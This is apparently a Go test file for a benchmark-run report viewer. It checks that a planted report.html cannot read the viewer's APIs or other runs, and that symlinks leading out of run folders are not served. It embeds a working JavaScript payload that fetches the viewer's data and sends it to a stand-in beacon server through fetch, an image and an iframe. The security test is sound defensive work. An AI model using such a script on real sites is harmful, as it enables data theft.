package view

import (
	"context"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/toolgrade/toolgrade/internal/record"
	"github.com/toolgrade/toolgrade/internal/report/browsertest"
)

// plantedReport is a report.html someone else wrote into a run folder: its
// script tries to read the viewer's data and another run's report, and to
// send what it read to a server of its own (BEACON).
const plantedReport = `<!doctype html><html><head><title>planted</title></head><body><pre id="out">pending</pre><script>
(async () => {
  const out = [];
  for (const u of ['/api/runs', '/run?id=0/victim', '/api/progress?id=0/victim']) {
    try { const r = await fetch(u); out.push(u + ' READ ' + r.status + ' ' + (await r.text()).slice(0, 60)); }
    catch (e) { out.push(u + ' blocked'); }
  }
  try { await fetch('BEACON/steal?d=' + encodeURIComponent(out.join('|')), {mode: 'no-cors'}); } catch (e) {}
  try { const i = new Image(); i.src = 'BEACON/img'; document.body.append(i); } catch (e) {}
  try { const f = document.createElement('iframe'); f.src = '/api/runs'; document.body.append(f); } catch (e) {}
  document.getElementById('out').textContent = out.join('\n');
  document.title = 'done';
})();
</script></body></html>`

// TestPlantedReportCannotReadTheViewer: a run folder's own report.html runs
// in Chromium under the viewer, and cannot read /api/runs, another run's
// report or its progress, nor reach a server of its own; the viewer's own
// reports still work under the same policy (TestViewInBrowser).
func TestPlantedReportCannotReadTheViewer(t *testing.T) {
	var beacons atomic.Int32
	beacon := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { beacons.Add(1) }))
	t.Cleanup(beacon.Close)

	root := t.TempDir()
	fakeRun{name: "victim", suite: "secret-suite", start: time.Now(), models: []string{"qwen3:4b"}, passes: [][]bool{passes(1, 2)}, result: "SECRET-RESULT", report: true}.write(t, root)
	fakeRun{name: "planted", suite: "planted", start: time.Now(), models: []string{"qwen3:4b"}, passes: [][]bool{passes(1, 1)}, result: "ok", report: true}.write(t, root)
	page := strings.ReplaceAll(plantedReport, "BEACON", beacon.URL)
	if err := os.WriteFile(filepath.Join(root, "planted", record.HTMLFile), []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
	s := server(t, root)

	bctx := browsertest.New(t)
	ctx, cancel := context.WithTimeout(bctx, 60*time.Second) // a deadlock guard, not a measurement
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate(s.URL+"/run?id=0/planted")); err != nil {
		t.Fatal(err)
	}
	poll(t, ctx, "the planted script's end", `document.title === 'done'`)
	out := eval[string](t, ctx, `document.getElementById('out').textContent`)
	browsertest.Screenshot(t, ctx, "view-planted.png")
	if strings.Contains(out, "READ") || strings.Count(out, "blocked") != 3 {
		t.Errorf("the planted page read the viewer's data:\n%s", out)
	}
	framed := eval[string](t, ctx, `(() => { try { return document.querySelector('iframe').contentDocument.body.textContent } catch (e) { return 'blocked' } })()`)
	if strings.Contains(framed, "victim") {
		t.Errorf("the planted page read /api/runs through a frame: %q", framed)
	}
	if n := beacons.Load(); n != 0 {
		t.Errorf("the planted page reached its own server %d times", n)
	}
}

// TestNoLinkOutOfTheFolders: a run linked in from outside the folder is
// neither listed nor served, and a run's files linked out of it (report.html
// to a secret, trials to another run) are never read.
func TestNoLinkOutOfTheFolders(t *testing.T) {
	outside := t.TempDir()
	fakeRun{name: "elsewhere", suite: "outside", start: time.Now(), models: []string{"m"}, passes: [][]bool{passes(1, 1)}, result: "OUTSIDE-RESULT", report: true}.write(t, outside)
	secret := filepath.Join(outside, "secret.html")
	if err := os.WriteFile(secret, []byte("SECRET-FILE"), 0o644); err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	link := func(target, name string) {
		t.Helper()
		if err := os.Symlink(target, name); err != nil {
			t.Fatal(err)
		}
	}
	link(filepath.Join(outside, "elsewhere"), filepath.Join(root, "linked"))
	fakeRun{name: "report-out", suite: "s", start: time.Now(), models: []string{"m"}, passes: [][]bool{passes(1, 1)}, result: "ok", report: true}.write(t, root)
	os.Remove(filepath.Join(root, "report-out", record.HTMLFile))
	link(secret, filepath.Join(root, "report-out", record.HTMLFile))
	fakeRun{name: "trials-out", suite: "s", start: time.Now(), models: []string{"m"}, passes: [][]bool{passes(1, 1)}, result: "ok"}.write(t, root)
	os.Remove(filepath.Join(root, "trials-out", "trials.jsonl"))
	link(filepath.Join(outside, "elsewhere", "trials.jsonl"), filepath.Join(root, "trials-out", "trials.jsonl"))
	if err := os.MkdirAll(filepath.Join(root, "run-out"), 0o755); err != nil {
		t.Fatal(err)
	}
	link(filepath.Join(outside, "elsewhere", "run.json"), filepath.Join(root, "run-out", "run.json"))
	s := server(t, root)

	get := func(path string) (int, string) {
		t.Helper()
		res, err := http.Get(s.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		var b strings.Builder
		_, _ = io.Copy(&b, res.Body)
		return res.StatusCode, b.String()
	}
	for _, p := range []string{"/run?id=0/linked", "/api/progress?id=0/linked", "/compare?a=0/linked&b=0/report-out",
		"/run?id=0/trials-out", "/api/progress?id=0/trials-out", "/run?id=0/run-out"} {
		if code, body := get(p); code != http.StatusNotFound || strings.Contains(body, "OUTSIDE") {
			t.Errorf("%s: %d %.200q, want 404", p, code, body)
		}
	}
	code, body := get("/run?id=0/report-out")
	if strings.Contains(body, "SECRET-FILE") {
		t.Errorf("/run?id=0/report-out served the file its report.html links to (%d)", code)
	}
	_, idx := get("/api/runs")
	if strings.Contains(idx, `"0/linked"`) || strings.Contains(idx, "OUTSIDE") {
		t.Errorf("the index lists a run linked in from outside: %.400s", idx)
	}
	if !strings.Contains(idx, `run.json: a link that leads out of the run's folder`) {
		t.Errorf("the index does not say why run-out is not read: %.400s", idx)
	}
}
